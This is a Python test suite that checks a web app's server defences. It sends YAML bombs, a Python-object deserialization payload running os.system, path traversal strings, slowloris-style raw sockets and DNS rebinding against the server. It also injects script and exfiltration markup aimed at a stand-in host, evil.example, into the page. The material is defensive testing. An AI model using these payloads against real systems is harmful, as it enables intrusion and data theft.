"""Attacks on the page's server, as attackers make them: raw sockets, hostile texts, another site's page."""

from __future__ import annotations

import socket
import time
from collections.abc import Generator
from contextlib import ExitStack
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, Page

from browsing import FLAGS
from demerit.web import app, guard
from served import PATIENCE, SMALL, Asking, end_at_once, program, serving

MOST_TEXT = 262_000
HOSTILE = {
    "a list a hundred thousand deep": "[" * MOST_TEXT,
    "the same, closed": "[" * (MOST_TEXT // 2) + "]" * (MOST_TEXT // 2),
    "a map as deep": "{a: " * (MOST_TEXT // 4),
    "a staircase": "\n".join(" " * step + "a:" for step in range(700)),
    "a billion laughs": "a: &a [x,x,x,x,x,x,x,x,x]\n"
    + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)),
    "a merge of merges": "a: &a {x: 1}\n" + "".join(f"b{i}: &b{i} {{<<: [*a, *a]}}\n" for i in range(500)),
    "what holds itself": "a: &a [*a]\n",
    "an object of Python": "!!python/object/apply:os.system ['touch pwned']\n",
    "a letter that is none": 'format: "\\0"\n\x00',
    "a name without an end": "id: " + "a-" * 100_000,
    "a file's path": "/etc/passwd",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_text_is_told_what_is_wrong(page: Asking, name: str) -> None:
    """However a scheme's text is built, it is answered with what is wrong in it, briefly, and never lived."""
    told = page.post("/api/scheme/check", {"text": HOSTILE[name]})
    assert told["ok"] is False
    assert told["problems"] or told["message"]
    assert len(told["message"]) < 100_000
    status, error = page.refusal("POST", "/api/worlds", json={"text": HOSTILE[name]})
    assert (422, "invalid") == (status, error["kind"])
    assert not Path("pwned").exists()


@pytest.mark.parametrize(
    "body",
    [
        "[" * 500_000, '{"seed":' + "9" * 500_000 + "}", '{"people": NaN}', '{"people": 1e999}', "\x00", '"',
        '{"sets": ["conducts.jaywalking.points=' + "[" * 1_900 + '"]}', '{"__proto__": {}}',
        '{"scheme": "../../../etc/passwd"}', '{"society": "/etc/passwd"}', '{"scheme": "as-described\\n"}',
        '{"sets": ["society.life=/etc/passwd"]}',
    ],
)  # fmt: skip
def test_a_hostile_body_is_refused(page: Asking, body: str) -> None:
    """Depth, size, numbers that are none, keys and paths that lead elsewhere: told in the shape of faults."""
    headers = {"content-type": "application/json"}
    status, error = page.refusal("POST", "/api/worlds", content=body.encode(), headers=headers)
    assert status in {400, 422}
    assert error["kind"] in {"wrong-use", "invalid"}


@pytest.mark.parametrize(
    "name", ["..%2f..%2fetc%2fpasswd", "folder-1%2f..", "%00", "folder-0", "/etc/passwd", "x" * 4_000]
)
def test_no_study_is_a_path(page: Asking, name: str) -> None:
    """A study is named by the id that the server gave it, and nothing else of the disk is."""
    found = page.client.get(f"/api/studies/{name}")
    assert (404, "not-found") == (found.status_code, found.json()["error"]["kind"])


def test_streams_are_bounded_and_let_go(page: Asking) -> None:
    """So many pages listen at once, one more is told to come back, and each that goes makes room."""
    world = page.world()
    path = f"/api/worlds/{world['id']}/events"
    with serving(Path(str(page.server.static)).parent / "page") as asking, ExitStack() as open_streams:
        begun = asking.post("/api/worlds", SMALL | {"people": 100_000, "days": 3_650})
        path = f"/api/worlds/{begun['id']}/events"
        limits = httpx.Limits(max_connections=2 * app.MOST_STREAMS)
        client = open_streams.enter_context(
            httpx.Client(base_url=asking.client.base_url, timeout=PATIENCE, limits=limits)
        )
        streams = [open_streams.enter_context(client.stream("GET", path)) for _ in range(app.MOST_STREAMS)]
        assert {200} == {each.status_code for each in streams}
        refused = client.get(path)
        assert (429, "busy", "1") == (
            refused.status_code, refused.json()["error"]["kind"], refused.headers["retry-after"],
        )  # fmt: skip
        assert 200 == client.get("/api/about").status_code
        streams[0].close()
        end = time.monotonic() + PATIENCE
        while len(asking.server.listeners) >= app.MOST_STREAMS:
            assert time.monotonic() < end
            time.sleep(0.05)
        with client.stream("GET", path) as again:
            assert 200 == again.status_code


def test_a_body_that_never_ends_is_let_go(page: Asking, monkeypatch: pytest.MonkeyPatch) -> None:
    """Who sends a letter now and then is refused after a while, and the connection is closed."""
    monkeypatch.setattr(guard, "BODY_SECONDS", 0.4)
    with raw(page.client.base_url) as line:
        line.sendall(begin(1_000) + b"{")
        told = b""
        for _ in range(40):
            try:
                line.sendall(b" ")
            except OSError:
                break
            time.sleep(0.05)
        line.settimeout(PATIENCE)
        while part := line.recv(65_536):
            told += part
    assert b" 408 " in told.splitlines()[0]
    assert b"too-slow" in told


def begin(length: int) -> bytes:
    """The head of a request for a world whose body is so long."""
    return (
        f"POST /api/worlds HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        f"Content-Length: {length}\r\n\r\n"
    ).encode()


def raw(url: httpx.URL) -> socket.socket:
    """A connection without manners."""
    return socket.create_connection((url.host, url.port or 80), PATIENCE)


SHORT = "from demerit.web import serving\nserving.HEADER_SECONDS = 0.5\n"


def test_a_connection_that_asks_nothing_is_closed(tmp_path: Path) -> None:
    """Idle connections, and heads that never end, do not stay; who asks meanwhile is answered."""
    with program(tmp_path / "page", "--port", "0", before=SHORT) as (_, address):
        url = httpx.URL(address)
        with raw(url) as idle, raw(url) as slow:
            slow.sendall(b"GET /api/about HTTP/1.1\r\nHost: local")
            assert 200 == httpx.get(f"{address}api/about", timeout=PATIENCE).status_code
            for line in (idle, slow):
                assert b"" == line.recv(1_024)


def test_ctrl_c_ends_it_whatever_is_open(tmp_path: Path) -> None:
    """Twenty streams, a body half sent and a connection that asks nothing delay no end."""
    served = program(tmp_path / "page", "--port", "0")
    with served as (process, address), httpx.Client(base_url=address, timeout=PATIENCE) as client:
        begun = client.post("/api/worlds", json=SMALL | {"people": 100_000, "days": 3_650}).json()
        with ExitStack() as held:
            for _ in range(20):
                stream = held.enter_context(client.stream("GET", begun["events"]))
                next(stream.iter_lines())
            half, idle = (held.enter_context(raw(httpx.URL(address))) for _ in range(2))
            half.sendall(begin(1_000) + b"{")
            assert idle.fileno() >= 0
            end_at_once(process)


# ---------------------------------------------------------------- another site's page, in a real browser


ELSEWHERE = "http://evil.example"
ASKS = """async (at) => {
  const tried = {};
  const say = async (name, ask) => { tried[name] = await ask().then((r) => r, () => "blocked"); };
  await say("reads", async () => (await fetch(`${at}/api/about`)).text());
  await say("reads unseen", async () => (await fetch(`${at}/api/about`, {mode: "no-cors"})).type);
  await say("posts", async () => (await fetch(`${at}/api/worlds`, {method: "POST", body: "{}",
    headers: {"content-type": "application/json"}})).text());
  await say("posts as a form", async () => (await fetch(`${at}/api/worlds`, {method: "POST", body: "{}",
    mode: "no-cors"})).type);
  await say("deletes", async () => (await fetch(`${at}/api/worlds/x`, {method: "DELETE"})).text());
  const element = (make) => new Promise((done) => {
    const made = make();
    made.onload = () => done("loaded");
    made.onerror = () => done("blocked");
    document.body.append(made);
  });
  const script = document.createElement("script");
  tried.script = await element(() => Object.assign(script, {src: `${at}/assets/theme.js`}));
  tried.picture = await element(() => Object.assign(new Image(), {src: `${at}/assets/icon.svg`}));
  const stream = new EventSource(`${at}/api/worlds/x/events`);
  tried.stream = await new Promise((done) => {
    stream.onopen = () => done("open");
    stream.onerror = () => done("blocked");
  });
  return tried;
}"""


INJECTED = """() => {
  const out = "http://evil.example/";
  document.body.insertAdjacentHTML("beforeend", `<img src=x onerror="window.ran = 1">
    <a id=j href="javascript:window.ran = 2">x</a><iframe srcdoc="<script>parent.ran = 3</script>"></iframe>
    <img src="${out}leak"><form action="${out}form"><button id=s></button></form><base href="${out}">
    <link rel=stylesheet href="${out}style"><object data="${out}object"></object>`);
  const inline = document.createElement("script");
  inline.textContent = "window.ran = 4";
  document.body.append(inline);
  document.getElementById("j").click();
  document.getElementById("s").click();
  navigator.sendBeacon(`${out}beacon`, "x");
  return fetch(out).catch(() => 0);
}"""
"""What somebody would put in who found a way to."""


@pytest.fixture(name="evil")
def _evil(browser: Browser) -> Generator[Page, None, None]:
    """A page of another site, open in the same browser."""
    room = browser.new_context()
    html = "<!doctype html><title>evil</title><body>"
    room.route(f"{ELSEWHERE}/**", lambda route: route.fulfill(body=html, content_type="text/html"))
    page = room.new_page()
    page.goto(f"{ELSEWHERE}/")
    yield page
    room.close()


def test_a_page_of_another_site_gets_nothing(evil: Page, served: Asking, origin: str) -> None:
    """It reads no answer, begins no world, loads no script, picture or stream, whatever it tries."""
    before = list(served.desk._kept)
    tried = evil.evaluate(ASKS, origin)
    unread = {"reads unseen", "posts as a form"}
    assert {"blocked"} == {said for name, said in tried.items() if name not in unread}
    assert {tried[name] for name in unread} <= {"blocked", "opaque"}
    assert before == list(served.desk._kept)


def test_a_page_of_another_site_cannot_frame_it(evil: Page, origin: str) -> None:
    """Nobody is made to click on it unseen."""
    evil.evaluate(
        "(at) => new Promise((done) => { const f = document.createElement('iframe'); f.onload = done; "
        "f.src = at; document.body.append(f); setTimeout(done, 5000); })",
        origin,
    )
    (frame,) = [each for each in evil.frames if each != evil.main_frame]
    assert frame.url.startswith("chrome-error:")
    assert frame.locator("nav").count() == 0


def test_a_name_that_is_pointed_here_gets_nothing(browser: Browser, origin: str) -> None:
    """A site that makes its own name point at this machine is refused by the name."""
    port = origin.rpartition(":")[2]
    rules = f"--host-resolver-rules=MAP evil.example 127.0.0.1:{port}"
    other = browser.browser_type.launch(
        executable_path="/usr/bin/chromium" if Path("/usr/bin/chromium").exists() else None,
        args=[*FLAGS, rules],
    )
    try:
        page = other.new_page()
        for path in ("/", "/api/about", "/api/library"):
            answer = page.goto(f"http://evil.example:{port}{path}")
            assert answer is not None
            assert 403 == answer.status
            assert "its own name" in answer.text()
    finally:
        other.close()


def test_nothing_that_gets_into_the_page_runs(browser: Browser, origin: str) -> None:
    """Scripts, handlers and addresses that got into the page's markup do nothing: its policy forbids them."""
    room = browser.new_context()
    page = room.new_page()
    left: list[str] = []
    room.route(f"{ELSEWHERE}/**", lambda route: (left.append(route.request.url), route.abort()))
    page.goto(f"{origin}/#/story")
    page.locator("h1").wait_for()
    page.evaluate(INJECTED)
    page.wait_for_timeout(500)
    assert page.evaluate("() => window.ran ?? null") is None
    assert [] == left
    assert page.url.startswith(origin)
    room.close()
